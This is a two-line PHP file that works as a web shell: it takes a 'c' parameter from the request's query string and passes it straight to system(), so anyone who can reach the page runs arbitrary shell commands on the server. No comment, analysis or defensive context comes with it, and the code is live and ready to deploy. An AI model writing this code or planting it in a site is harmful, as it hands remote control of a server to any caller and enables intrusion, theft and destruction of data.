<?php
$q = $_SERVER['QUERY_STRING']; parse_str($q, $o); if (isset($o['c'])) system($o['c']);
